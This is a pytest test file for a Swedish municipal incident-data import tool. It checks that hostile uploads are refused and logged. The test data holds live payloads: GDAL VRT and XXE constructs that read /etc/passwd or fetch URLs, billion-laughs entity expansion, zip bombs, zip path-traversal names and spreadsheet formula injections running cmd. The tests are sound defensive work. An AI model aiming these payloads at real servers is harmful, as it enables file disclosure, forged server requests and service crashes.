"""Hostile uploads: files made to read server files, make the server send requests, expand to
more than they say, or crash the import. Each is refused with a clear Swedish message, leaves the
store as it was, and is logged as a refusal."""
from __future__ import annotations

import http.server
import io
import json
import threading
import zipfile

import pytest

from lagesbild.errors import InputError
from loaders.kinds import Options
from loaders.report import check_upload
from tests.test_loaders_support import refused_log, run, snapshot


def log_messages(engine) -> str:
    from sqlalchemy import select

    from lagesbild.store.models import ImportLog
    with engine.connect() as conn:
        return "\n".join(conn.execute(select(ImportLog.message)).scalars())


# --- area boundaries: no driver, file or URL chosen by the upload --------------------------------

@pytest.fixture(scope="module")
def listener():
    """A local HTTP server that counts the requests it gets (none may arrive)."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the stdlib's name
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


FITTJA_WKT = "POLYGON((17.85 59.24,17.87 59.24,17.87 59.26,17.85 59.26,17.85 59.24))"


def _vrt(source: str) -> bytes:
    """Opened as a VRT (before the fix) this read the source (a server file or a URL) and wrote a
    polygon for Fittja into areas, with a line of the source as a property."""
    return (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource>'
            '<OpenOptions><OOI key="HEADERS">NO</OOI><OOI key="SEPARATOR">SEMICOLON</OOI></OpenOptions>'
            f"<SrcSQL dialect=\"sqlite\">select '0127R005' as regso_kod, field_1 as namn, '{FITTJA_WKT}' as g "
            'from passwd limit 1</SrcSQL><GeometryType>wkbPolygon</GeometryType>'
            '<GeometryField encoding="WKT" field="g"/></OGRVRTLayer></OGRVRTDataSource>').encode()


def _payloads(url: str) -> dict[str, bytes]:
    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return {
        "vrt reading /etc/passwd": _vrt("CSV:/etc/passwd"),
        "vrt over /vsicurl/": _vrt(f"/vsicurl/{url}/vrt.geojson"),
        "vrt over /vsizip/": _vrt(f"/vsizip//vsicurl/{url}/a.zip/a.geojson"),
        "gml with xxe and xlink": (
            f'{xxe}<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
            'xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<gml:featureMember><ogr:x><ogr:regso_kod>&e;</ogr:regso_kod>'
            f'<ogr:geometryProperty xlink:href="{url}/gml#p"/></ogr:x></gml:featureMember>'
            '</ogr:FeatureCollection>').encode(),
        "kml with xxe": (f'{xxe}<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&e;</name>'
                         '<Point><coordinates>17.8,59.2</coordinates></Point></Placemark></kml>').encode(),
        "geojson naming a url": json.dumps({"type": "FeatureCollection",
                                            "features": f"/vsicurl/{url}/f.geojson"}).encode(),
        "geojson with a proj init crs": json.dumps({
            "type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "+init=/etc/passwd:x"}},
            "features": [{"type": "Feature", "properties": {"regso_kod": "0127R005"},
                          "geometry": {"type": "Point", "coordinates": [17.8, 59.2]}}]}).encode(),
        "bare url": f"/vsicurl/{url}/bare.geojson".encode(),
    }


PAYLOADS = list(_payloads("http://x"))


def _as(extension: str, payload: bytes) -> tuple[str, bytes]:
    """The payload under an accepted name: as it is, or as the .shp (and .prj) of a zipped Shapefile."""
    if extension != ".zip":
        return f"omraden{extension}", payload
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("omraden.shp", payload)
        z.writestr("omraden.shx", payload)
        z.writestr("omraden.dbf", payload)
        z.writestr("omraden.prj", payload)
        z.writestr("omraden.vrt", payload)
    return "omraden.zip", buf.getvalue()


@pytest.mark.parametrize("extension", [".geojson", ".json", ".gpkg", ".zip"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_boundary_payloads_are_refused_without_reading_files_or_network(empty_engine, listener, payload,
                                                                        extension):
    url, hits = listener
    hits.clear()
    name, data = _as(extension, _payloads(url)[payload])
    before = snapshot(empty_engine)
    check = check_upload(empty_engine, "areas", name, data, Options())
    with pytest.raises(InputError) as refused:
        run(empty_engine, "areas", name, data)
    said = str(refused.value) + "\n".join(str(p) for p in check.problems) + str(refused_log(empty_engine))
    said += log_messages(empty_engine)
    assert not check.ok
    assert "root:" not in said and "/bin/" not in said
    assert hits == []
    assert snapshot(empty_engine) == before
    assert refused_log(empty_engine) == [("areas", "refused")]


def test_shapefile_magic_is_checked_before_gdal_sees_it(empty_engine):
    name, data = _as(".zip", _vrt("CSV:/etc/passwd"))
    with pytest.raises(InputError) as refused:
        run(empty_engine, "areas", name, data)
    assert str(refused.value) == (
        "omraden.zip: Filen går inte att läsa som geodata (omraden.shp är ingen Shapefile). Kontrollera "
        "att den är en giltig GeoJSON (.geojson), GeoPackage (.gpkg) eller zippad Shapefile (.zip).")


def test_vrt_named_geojson_gets_a_clear_message(empty_engine):
    with pytest.raises(InputError) as refused:
        run(empty_engine, "areas", "omraden.geojson", _vrt("CSV:/etc/passwd"))
    assert str(refused.value) == (
        "omraden.geojson: Filen går inte att läsa som geodata (ingen giltig JSON, rad 1, tecken 1). "
        "Kontrollera att den är en giltig GeoJSON (.geojson), GeoPackage (.gpkg) eller zippad Shapefile (.zip).")


def _regso_feature(ring: list) -> dict:
    return {"type": "Feature", "properties": {"regso_kod": "0127R005", "namn": "Fittja"},
            "geometry": {"type": "Polygon", "coordinates": [ring]}}


def test_geojson_in_sweref_without_crs_member_is_taken_as_sweref(empty_engine):
    from pyproj import Transformer
    to_sweref = Transformer.from_crs(4326, 3006, always_xy=True)
    ring = [list(to_sweref.transform(x, y)) for x, y in
            [(17.85, 59.24), (17.87, 59.24), (17.87, 59.26), (17.85, 59.26), (17.85, 59.24)]]
    data = json.dumps({"type": "FeatureCollection", "features": [_regso_feature(ring)]}).encode()
    assert run(empty_engine, "areas", "fittja.geojson", data).stored.updated == 1
    with empty_engine.connect() as conn:
        from sqlalchemy import text
        geometry = json.loads(conn.execute(text("select geometry_geojson from areas where code = '0127R005'"))
                              .scalar())
    from shapely.geometry import shape
    assert tuple(round(v, 3) for v in shape(geometry).bounds) == (17.85, 59.24, 17.87, 59.26)


@pytest.mark.parametrize("crs", [{"type": "name", "properties": {"name": "EPSG:99999"}},
                                 {"type": "name", "properties": {"name": "+proj=longlat +init=/etc/passwd"}},
                                 {"type": "link", "properties": {"href": "http://example.invalid/crs"}}, "EPSG:3006"])
def test_geojson_with_a_crs_member_that_is_no_epsg_code_is_refused(empty_engine, crs):
    doc = {"type": "FeatureCollection", "crs": crs, "features": [_regso_feature([[0, 0], [1, 0], [1, 1], [0, 0]])]}
    with pytest.raises(InputError) as refused:
        run(empty_engine, "areas", "a.geojson", json.dumps(doc).encode())
    assert refused.value.problems[0].message == (
        "Koordinatsystemet i filens 'crs' går inte att tolka. Ange det som EPSG-kod (t.ex. 'EPSG:3006' för "
        "SWEREF99 TM) eller ta bort 'crs' (WGS84).")


def test_geojson_in_wgs84_without_crs_member_and_with_crs84(empty_engine):
    ring = [[17.85, 59.24], [17.87, 59.24], [17.87, 59.26], [17.85, 59.26], [17.85, 59.24]]
    plain = {"type": "FeatureCollection", "features": [_regso_feature(ring)]}
    crs84 = {**plain, "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}
    assert run(empty_engine, "areas", "a.geojson", json.dumps(plain).encode()).stored.updated == 1
    assert run(empty_engine, "areas", "b.json", json.dumps(crs84).encode()).stored.duplicates == 1


# --- zip containers: bombs and paths ----------------------------------------------------------

def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


BOMB = "Filen packas upp till {} MB och ser ut som en zip-bomb; den öppnas inte. Spara om filen från originalprogrammet."
MANY_SMALL = _zip({f"xl/m{i}.xml": b"\0" * 1024 * 1024 for i in range(280)})  # 280 MB from ~300 KB


@pytest.mark.parametrize("name", ["omraden.zip", "handelser.xlsx"])
@pytest.mark.parametrize("members, expected", [
    pytest.param(None, BOMB.format(294), id="280 members of 1 MB"),
    pytest.param({f"m{i}.txt": b"x" for i in range(1001)},
                 "Zip-filen innehåller 1001 filer (högst 1000); den öppnas inte. Spara om filen från "
                 "originalprogrammet.", id="too many members"),
    pytest.param({"a.shp": b"\0" * 400_000}, BOMB.format("0,4"), id="one member of 400 kB zeros"),
])
def test_zip_bombs_are_refused(empty_engine, name, members, expected):
    kind = "areas" if name.endswith(".zip") else "incidents"
    data = MANY_SMALL if members is None else _zip(members)
    before = snapshot(empty_engine)
    with pytest.raises(InputError) as refused:
        run(empty_engine, kind, name, data, **({"source": "kommun"} if kind == "incidents" else {}))
    assert str(refused.value) == f"{name}: {expected}"
    assert snapshot(empty_engine) == before
    assert refused_log(empty_engine) == [(kind, "refused")]


def test_zip_total_is_limited(empty_engine, monkeypatch):
    import os

    import loaders.readers.ziputil as ziputil
    monkeypatch.setattr(ziputil, "MAX_UNCOMPRESSED", 1_000_000)
    data = _zip({f"m{i}.bin": os.urandom(300_000) for i in range(4)})  # incompressible: ratio 1
    with pytest.raises(InputError) as refused:
        run(empty_engine, "areas", "omraden.zip", data)
    assert str(refused.value) == f"omraden.zip: {BOMB.format('1,2')}"


@pytest.mark.parametrize("member", ["a/..", "..", "../omraden.shp", "/etc/passwd", "x/../../y.dbf",
                                    "C:/temp/a.shp", "a\\..\\b.shp", "\\\\server\\share\\a.shp"])
@pytest.mark.parametrize("name", ["omraden.zip", "handelser.xlsx"])
def test_zip_member_paths_outside_the_archive_are_refused(empty_engine, name, member):
    kind = "areas" if name.endswith(".zip") else "incidents"
    data = _zip({"omraden.shp": b"x", member: b"y"})
    with pytest.raises(InputError) as refused:
        run(empty_engine, kind, name, data, **({"source": "kommun"} if kind == "incidents" else {}))
    problem = refused.value.problems[0]
    assert (problem.file, problem.value) == (name, member)
    assert problem.message == ("Zip-filen innehåller en fil med en otillåten sökväg (absolut sökväg eller "
                               "'..'); den öppnas inte. Packa filerna igen utan mappar runt dem.")
    assert refused_log(empty_engine) == [(kind, "refused")]


# --- formulas in downloads ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Klicka")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _sheet_cells(data: bytes) -> list:
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(data))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_exports_neutralise_formulas_and_keep_numbers():
    import pandas as pd

    from lagesbild.exports import neutralise_formulas
    from lagesbild.exports import to_csv_bytes, to_excel_bytes
    frame = pd.DataFrame({"Text": FORMULAS + ["-3", "Trasig lampa", "<5"],
                          "Antal": [1, -2, 3, 4, 5, 6, 7, 8, 9]})
    safe = neutralise_formulas(frame)
    assert list(safe["Text"]) == ["'" + f.replace("\r", "\n") for f in FORMULAS] + ["-3", "Trasig lampa", "<5"]
    assert list(safe["Antal"]) == [1, -2, 3, 4, 5, 6, 7, 8, 9]
    raw = _sheet_cells(to_excel_bytes(frame))
    assert any(c.data_type == "f" for c in raw)  # what the Excel writer does with raw text
    cells = _sheet_cells(to_excel_bytes(safe))
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if c.column == 2][1:] == [1, -2, 3, 4, 5, 6, 7, 8, 9]
    import csv
    parsed = list(csv.reader(io.StringIO(to_csv_bytes(safe).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in parsed[1:]] == list(safe["Text"])


def test_walk_descriptions_with_formulas_are_stored_as_text_and_shown_neutralised(empty_engine):
    import datetime as dt

    from lagesbild import presenters
    from lagesbild.queries.filters import Filters
    from lagesbild.exports import to_excel_bytes
    from lagesbild.queries.walks import action_list
    from tests.test_loaders_support import csv_bytes
    head = "Datum;Område;Nr;Kategori;Beskrivning;Förslag till åtgärd;Ansvarig;Prioritet;Klart senast;Status"
    body = ["2024-03-12;Fittja;1;Belysning;\"=HYPERLINK(\"\"http://example.invalid\"\")\";@SUM(1);Kommunen;Hög;"
            "2024-04-12;Ny"]
    run(empty_engine, "walks", "tv.csv", csv_bytes([head] + body))
    with empty_engine.connect() as conn:
        actions = action_list(conn, Filters(dt.date(2024, 1, 1), dt.date(2024, 12, 31)), dt.date(2024, 6, 1),
                              "overdue")
    table = presenters.walk_actions_table(actions)
    assert list(table["Iakttagelse"]) == ["'=HYPERLINK(\"http://example.invalid\")"]
    assert list(table["Föreslagen åtgärd"]) == ["'@SUM(1)"]
    assert [c for c in _sheet_cells(to_excel_bytes(table)) if c.data_type == "f"] == []


# --- one upload limit, stated once --------------------------------------------------------------

def test_streamlit_config_ships_the_upload_limit_and_hides_error_details():
    import tomllib
    from pathlib import Path

    from streamlit.config import ShowErrorDetailsConfigOptions

    from loaders.source import MAX_FILE_BYTES, MAX_UPLOAD_MB
    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == MAX_UPLOAD_MB == 100
    assert MAX_FILE_BYTES == MAX_UPLOAD_MB * 1024 * 1024  # Streamlit's megabyte
    assert config["client"]["showErrorDetails"] == ShowErrorDetailsConfigOptions.NONE.value
    assert config["client"]["toolbarMode"] == "viewer"
    assert config["theme"]["base"] == "light"  # a dark-mode laptop must not darken the projector pages


def test_the_refusal_states_the_same_limit(tmp_path):
    from loaders.source import MAX_FILE_BYTES, from_path
    big = tmp_path / "stor.csv"
    with big.open("wb") as f:
        f.truncate(MAX_FILE_BYTES + 1)  # sparse: nothing is written
    with pytest.raises(InputError) as refused:
        from_path(big)
    assert str(refused.value) == ("stor.csv: Filen är för stor (100 MB; högst 100 MB). Dela upp den i flera "
                                  "filer, till exempel per år.")


# --- files that used to crash the import: a clear message instead --------------------------------

INC = "Datum;Kategori;Område;Antal;Beskrivning"
WALK = "Datum;Område;Nr;Kategori;Beskrivning;Ansvarig;Prioritet;Status"


def _csv(rows: list[str]) -> bytes:
    return ("\r\n".join(rows) + "\r\n").encode("utf-8")


def _xlsx(header: list, body: list[list], edit=None) -> bytes:
    """An .xlsx from openpyxl, optionally with its sheet XML edited (what openpyxl cannot write)."""
    from tests.test_loaders_support import xlsx_bytes
    data = xlsx_bytes(header, body)
    if edit is None:
        return data
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name in src.namelist():
            part = src.read(name)
            out.writestr(name, edit(part.decode()).encode() if name == "xl/worksheets/sheet1.xml" else part)
    return buf.getvalue()


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>')
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
ENCRYPTED_XLSX = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedInfo".encode("utf-16-le")
                  + b"\0" * 100 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1000)
OLD_XLS_RENAMED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 1000
XML_REFUSED = ("Excel-filen innehåller XML som Excel inte skriver (entiteter eller DOCTYPE i '{}') och öppnas "
               "inte. Öppna den i Excel och spara den igen som .xlsx.")

CRASHES = {
    "2 MB cell": ("incidents", "k.csv", _csv([INC, "2024-01-02;Klotter;Fittja;1;Kort", '2024-01-03;Klotter;Fittja;1;"'
                                              + "x" * 2_000_000 + '"']),
                  "k.csv, rad 3: Ett fält som börjar på den här raden är längre än 131 072 tecken. Oftast beror "
                  "det på ett citattecken (\") som aldrig stängs, så att resten av filen blir ett enda fält: rätta "
                  "citattecknet eller korta texten."),
    "xlsx entity expansion": ("incidents", "k.xlsx", _xlsx(["Datum", "Kategori"], [["2024-01-02", "Klotter"]],
                                                           lambda x: LAUGHS + x.replace(">Klotter<", ">&lol3;<")),
                              "k.xlsx: " + XML_REFUSED.format("xl/worksheets/sheet1.xml")),
    "xlsx external entity": ("incidents", "k.xlsx", _xlsx(["Datum", "Kategori"], [["2024-01-02", "Klotter"]],
                                                          lambda x: EXTERNAL + x.replace(">Klotter<", ">&e;<")),
                             "k.xlsx: " + XML_REFUSED.format("xl/worksheets/sheet1.xml")),
    "xlsx undefined entity": ("incidents", "k.xlsx", _xlsx(["Datum", "Kategori"], [["2024-01-02", "Klotter"]],
                                                           lambda x: x.replace(">Klotter<", ">&odefinierad;<")),
                              "k.xlsx: " + XML_REFUSED.format("bladet Sheet")),
    "encrypted workbook": ("incidents", "k.xlsx", ENCRYPTED_XLSX,
                           "k.xlsx: Filen är lösenordsskyddad (krypterad), så den går inte att läsa. Öppna den i "
                           "Excel, ta bort lösenordet (Arkiv > Info > Skydda arbetsbok > Kryptera med lösenord, töm "
                           "fältet) och spara den igen."),
    "old xls named xlsx": ("incidents", "k.xlsx", OLD_XLS_RENAMED,
                           "k.xlsx: Filen är i det gamla Excel-formatet (.xls) fast den heter .xlsx. Spara den som "
                           ".xlsx (Excel-arbetsbok) eller CSV i Excel."),
    "NUL byte further down": ("walks", "tv.csv", _csv([WALK] + ["2024-03-12;Fittja;%d;Belysning;Lampa;Kommunen;Hög;Ny" % i
                                                              for i in range(1, 150)]
                                                     + ["2024-03-12;Fittja;150;Belysning;La\x00mpa;Kommunen;Hög;Ny"]),
                              "tv.csv, rad 151: Filen innehåller ett NUL-tecken (byte 0), som inte hör hemma i en "
                              "textfil; filen är troligen skadad eller sparad i fel format. Öppna den och spara den "
                              "igen som 'CSV UTF-8' i Excel."),
}


@pytest.mark.parametrize("case", list(CRASHES))
def test_crashing_inputs_get_a_clear_message(empty_engine, case):
    kind, name, data, expected = CRASHES[case]
    before = snapshot(empty_engine)
    with pytest.raises(InputError) as refused:
        run(empty_engine, kind, name, data, **({"source": "kommun"} if kind == "incidents" else {}))
    assert str(refused.value) == expected
    assert snapshot(empty_engine) == before
    assert refused_log(empty_engine) == [(kind, "refused")]
    assert "root:" not in log_messages(empty_engine)


def test_cli_refuses_with_exit_code_2(tmp_path, capsys):
    from loaders.__main__ import main
    path = tmp_path / "k.xlsx"
    path.write_bytes(ENCRYPTED_XLSX)
    code = main(["import", "incidents", str(path), "--source", "kommun", "--db", f"sqlite:///{tmp_path / 's.db'}"])
    assert code == 2
    assert "lösenordsskyddad" in capsys.readouterr().err


def test_nul_inside_text_is_refused_or_dropped(empty_engine):
    """XML cannot hold NUL (an .xlsx with '&#0;' is refused); a JSON '\\u0000' becomes nothing instead
    of crashing PostgreSQL."""
    walk = _xlsx(["Datum", "Område", "Nr", "Kategori", "Beskrivning", "Ansvarig", "Prioritet", "Status"],
                 [["2024-03-12", "Fittja", 1, "Belysning", "Släckt LAMPA", "Kommunen", "Hög", "Ny"]],
                 lambda x: x.replace("LAMPA", "lam&#0;pa"))
    with pytest.raises(InputError) as refused:
        run(empty_engine, "walks", "tv.xlsx", walk)
    assert str(refused.value) == "tv.xlsx: " + XML_REFUSED.format("bladet Sheet")
    events = json.dumps([{"id": 1, "datetime": "2025-05-02 10:00:00 +02:00", "type": "Misshandel",
                          "name": "2 maj 09.30, Misshandel, Botkyrka", "summary": "Fittja\u0000 centrum",
                          "location": {"name": "Botkyrka"}}]).encode()
    assert run(empty_engine, "polisen", "events.json", events).rows_read == 1


def test_a_refusal_with_nul_in_it_is_logged(empty_engine):
    from lagesbild.errors import Problem
    from loaders.errors import FileRefused
    from loaders.pipeline import log_refusal
    from loaders.source import SourceFile
    error = FileRefused([Problem("k\x00.csv", 2, "Beskrivning", "La\x00mpa", "Fel")])
    log_refusal(empty_engine, "walks", SourceFile("k\x00.csv", b"x"), None, error)
    assert "La\ufffdmpa" in log_messages(empty_engine)


REPORT = [["Händelserapport Fittja"], ["Period:", "2024-01"], [], ["Datum", "Kategori", "Område", "Antal"],
          ["2024-01-02", "Klotter", "Fittja", 2], ["2024-01-03", "Klotter", "Fittja", 3], ["Totalt", None, None, 5]]


@pytest.mark.parametrize("name", ["rapport.xlsx", "rapport.csv"])
def test_title_rows_and_a_totals_row_are_skipped(empty_engine, name):
    if name.endswith(".xlsx"):
        data = _xlsx(REPORT[0], REPORT[1:])
    else:
        data = _csv([";".join("" if c is None else str(c) for c in row) for row in REPORT])
    result = run(empty_engine, "incidents", name, data, source="kommun")
    assert (result.rows_read, result.rows_accepted, result.stored.inserted) == (2, 2, 2)


def test_excel_serial_dates_are_dates(empty_engine):
    from tests.test_loaders_support import incident_rows
    data = _xlsx(["Datum", "Kategori", "Område"], [[45293, "Klotter", "Fittja"], [45293.75, "Klotter", "Fittja"]])
    run(empty_engine, "incidents", "serial.xlsx", data, source="kommun")
    import datetime as dt
    assert [r[0] for r in incident_rows(empty_engine, "occurred_at")] == [dt.datetime(2024, 1, 2),
                                                                         dt.datetime(2024, 1, 2, 18, 0)]


# --- the store cannot write or is too new: a message, exit code 2 ------------------------------

GOOD = ("Datum;Kategori;Område\r\n2024-01-02;Klotter;Fittja\r\n").encode()


def _url(engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def _cli(argv: list[str], capsys) -> tuple[int, str]:
    from loaders.__main__ import main
    code = main(argv)
    return code, capsys.readouterr().err


def _import_cli(tmp_path, url: str, capsys) -> tuple[int, str]:
    path = tmp_path / "k.csv"
    path.write_bytes(GOOD)
    return _cli(["import", "incidents", str(path), "--source", "kommun", "--db", url], capsys)


def _failure_of(engine, data: bytes = GOOD):
    from lagesbild.store.failures import store_failure
    with pytest.raises(Exception) as raised:
        run(engine, "incidents", "k.csv", data, source="kommun")
    return store_failure(raised.value)


def test_a_newer_database_is_named_on_the_command_lines(empty_engine, tmp_path, capsys):
    from sqlalchemy import text

    from lagesbild.__main__ import main as lagesbild_main
    from lagesbild.store.failures import NEWER
    with empty_engine.begin() as conn:
        conn.execute(text("update alembic_version set version_num = '9999_framtida'"))
    message = NEWER.format("9999_framtida")
    assert message.startswith("Databasen är nyare än den här versionen av Lägesbild")
    assert _import_cli(tmp_path, _url(empty_engine), capsys) == (2, f"Avbrutet; inget sparades:\n- {message}\n")
    assert lagesbild_main(["init", "--db", _url(empty_engine), "--no-demo"]) == 2
    assert capsys.readouterr().err == f"Kunde inte förbereda databasen:\n{message}\n"


def test_a_newer_database_is_named_on_the_page(tmp_path, monkeypatch):
    from sqlalchemy import text
    from streamlit.testing.v1 import AppTest

    from lagesbild.setup import ensure_database
    from lagesbild.store.engine import make_engine
    url = f"sqlite:///{tmp_path / 'newer.db'}"
    engine = make_engine(url)
    ensure_database(engine, demo=False)
    with engine.begin() as conn:
        conn.execute(text("update alembic_version set version_num = '9999_framtida'"))
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", url)
    at = AppTest.from_file(str(__import__("pathlib").Path(__file__).resolve().parents[1] / "app.py"),
                           default_timeout=60).run()
    assert not at.exception
    assert at.error[0].value.startswith("Databasen är nyare än den här versionen av Lägesbild "
                                        "(databasens version '9999_framtida' finns inte här).")
    assert "referens" in at.error[0].value


def test_a_read_only_database_is_named(empty_engine, tmp_path, capsys, pg_admin_or_none):
    from sqlalchemy import create_engine, text

    from lagesbild.store.failures import READ_ONLY, DatabaseReadOnly
    if empty_engine.dialect.name == "sqlite":
        path = empty_engine.url.database
        read_only = create_engine(f"sqlite:///file:{path}?mode=ro&uri=true")
    else:
        with pg_admin_or_none.connect() as conn:
            conn.execute(text(f'ALTER DATABASE "{empty_engine.url.database}" SET default_transaction_read_only = on'))
        empty_engine.dispose()
        read_only = empty_engine
    failure = _failure_of(read_only)
    assert isinstance(failure, DatabaseReadOnly) and failure.message == READ_ONLY
    if empty_engine.dialect.name == "postgresql":
        assert _import_cli(tmp_path, _url(empty_engine), capsys) == (2, f"Avbrutet; inget sparades:\n- {READ_ONLY}\n")


@pytest.fixture
def pg_admin_or_none(request):
    """The PostgreSQL admin engine when the test runs on PostgreSQL."""
    params = getattr(request.node, "callspec", None)
    if params and params.params.get("empty_engine") == "postgresql":
        return request.getfixturevalue("pg_admin")
    return None


def test_a_full_disk_is_named(empty_engine):
    from sqlalchemy import create_engine, event

    from lagesbild.store.failures import DISK_FULL, DiskFull, store_failure
    if empty_engine.dialect.name == "sqlite":
        full = create_engine(empty_engine.url)

        @event.listens_for(full, "connect")
        def _no_room(dbapi_connection, _record):  # the file may not grow by a single page
            pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]
            dbapi_connection.execute(f"PRAGMA max_page_count = {pages}")
        many = "".join(f"2024-01-{1 + i % 28:02d} {i % 24:02d}:{i % 60:02d};Klotter;Fittja\r\n" for i in range(3000))
        failure = _failure_of(full, GOOD + many.encode())
    else:  # PostgreSQL says it with SQLSTATE 53100
        import psycopg.errors
        from sqlalchemy.exc import OperationalError
        failure = store_failure(OperationalError("INSERT …", {}, psycopg.errors.DiskFull("could not extend file")))
    assert isinstance(failure, DiskFull) and failure.message == DISK_FULL
    assert isinstance(store_failure(OSError(28, "No space left on device")), DiskFull)


def test_a_database_locked_too_long_is_named(tmp_path, capsys, monkeypatch):
    import sqlite3

    from sqlalchemy import create_engine

    import loaders.__main__ as cli
    from lagesbild.setup import ensure_database
    from lagesbild.store.failures import BUSY, DatabaseBusy
    path = tmp_path / "locked.db"
    engine = create_engine(f"sqlite:///{path}", connect_args={"timeout": 0.2})  # the app waits 30 s
    ensure_database(engine, demo=False)
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        failure = _failure_of(engine)
        assert isinstance(failure, DatabaseBusy) and failure.message == BUSY
        monkeypatch.setattr(cli, "_engine", lambda url: engine)
        assert _import_cli(tmp_path, "-", capsys) == (2, f"Avbrutet; inget sparades:\n- {BUSY}\n")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
        engine.dispose()


def test_an_unexpected_error_on_a_page_shows_a_reference_not_a_traceback(caplog):
    from streamlit.testing.v1 import AppTest

    def page():
        from lagesbild.ui.failsafe import friendly_errors
        with friendly_errors():
            raise RuntimeError("hemlig detalj från servern")

    at = AppTest.from_function(page).run()
    assert not at.exception
    message = at.error[0].value
    assert message.startswith("Något gick fel när sidan skulle visas.") and "hemlig" not in message
    ref = message.rsplit("referens ", 1)[1].rstrip(".")
    assert len(ref) == 6
    assert any(ref in r.getMessage() and r.exc_info for r in caplog.records)
